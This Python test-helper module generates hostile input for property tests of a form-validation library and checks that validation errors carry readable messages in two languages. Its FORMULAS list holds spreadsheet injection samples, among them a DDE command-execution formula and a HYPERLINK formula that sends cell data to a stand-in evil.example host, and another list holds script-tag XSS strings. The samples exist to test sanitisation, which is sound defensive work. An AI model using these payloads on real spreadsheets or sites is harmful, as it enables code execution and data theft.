"""Hostile input for property tests, and the check that an error is one a user can act on."""

from __future__ import annotations

import dataclasses
import operator
from datetime import date
from string import Formatter

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from fleming.errors import ValidationError, ValidationErrors
from fleming.i18n import LANGUAGES, catalogue

# The property runs: as many examples as the Hypothesis profile gives (tests/conftest.py): a few
# hundred in a developer's run, a thousand in CI's `thorough` profile.
THOROUGH = settings(
    deadline=None,  # no timing asserts: CI machines are shared
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


# --------------------------------------------------------------------------- hostile input
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=1+1\n=2+2",
)
MARKUP = ("<script>alert(1)</script>", "**grassetto**", "[link](javascript:alert(1))", "<b>x</b>")
SNEAKY = (  # invisible, control and line-break characters, decomposed accents, no letters
    "\u200b",
    "Ma\u200bria",
    "\u202eissoR",
    "Maria\nRossi",
    "Rossi\r\nBianchi",
    "Rossi\u2028",
    "Ro\x07ssi",
    "Mari\u0301a",
    "Nicolo\u0300 D\u2019Amico",
    "...",
    " - ' ",
    "\u00a0\u2003",
    "\ufeffAnna",
    "riga\tcon tab",
)


def _mojibake(text: str) -> str:
    """UTF-8 read as Windows-1252: the classic broken-encoding text."""
    return text.encode("utf-8").decode("cp1252", errors="replace")


def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(max_size=max_size),
        st.sampled_from(FORMULAS + MARKUP + SNEAKY),
        st.builds(operator.mul, st.text(min_size=1, max_size=3), st.integers(60, 6000)),  # huge
        st.text(max_size=max_size).map(_mojibake),
        st.binary(max_size=max_size).map(lambda b: b.decode("latin-1")),
        st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Zl"]), max_size=12),
    )


def one_clean_line(text: str) -> None:
    """Text as stored: NFC, trimmed, one line, no control or invisible character."""
    import unicodedata

    from fleming.validators import LINE_BREAKS

    assert text == text.strip() and unicodedata.is_normalized("NFC", text), repr(text)
    assert not any(c in LINE_BREAKS for c in text), repr(text)
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in text), repr(text)


def optional(strategy: st.SearchStrategy) -> st.SearchStrategy:
    return st.one_of(st.none(), strategy)


any_value = st.one_of(
    st.none(),
    hostile_text(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(allow_nan=True, allow_infinity=True),
    st.booleans(),
)
dates = st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31))
plausible_dates = st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31))


def message_is_clear(message: str, params: dict) -> None:
    """``message`` is a catalogue key with a text in both languages and ``params`` fill every
    placeholder of it."""
    entry = catalogue().get(message)
    assert entry is not None, f"no text for {message!r}"
    for lang in LANGUAGES:
        wanted = {name for _, name, _, _ in Formatter().parse(entry[lang]) if name}
        assert wanted <= set(params), (message, lang, wanted, params)
        assert entry[lang].format(**params).strip()


def clear(err: ValidationError, fields: set[str] | frozenset[str]) -> None:
    """The error names a field of the form and has a message the user can read, in both
    languages, with every placeholder filled."""
    assert err.field in fields, err
    message_is_clear(err.message, err.params)


def clear_all(exc: ValidationErrors, fields: set[str] | frozenset[str]) -> None:
    assert exc.errors
    for err in exc.errors:
        clear(err, fields)


def fields_of(cls) -> frozenset[str]:
    return frozenset(f.name for f in dataclasses.fields(cls))


def memory_database():
    """An in-memory SQLite engine with the schema and the reference data."""
    from sqlalchemy import create_engine
    from sqlalchemy.orm import Session
    from sqlalchemy.pool import StaticPool

    from fleming.models import Base
    from fleming.reference import seed_reference_data

    engine = create_engine(
        "sqlite://", connect_args={"check_same_thread": False}, poolclass=StaticPool
    )
    Base.metadata.create_all(engine)
    with Session(engine) as session:
        seed_reference_data(session=session)
        session.commit()
    return engine
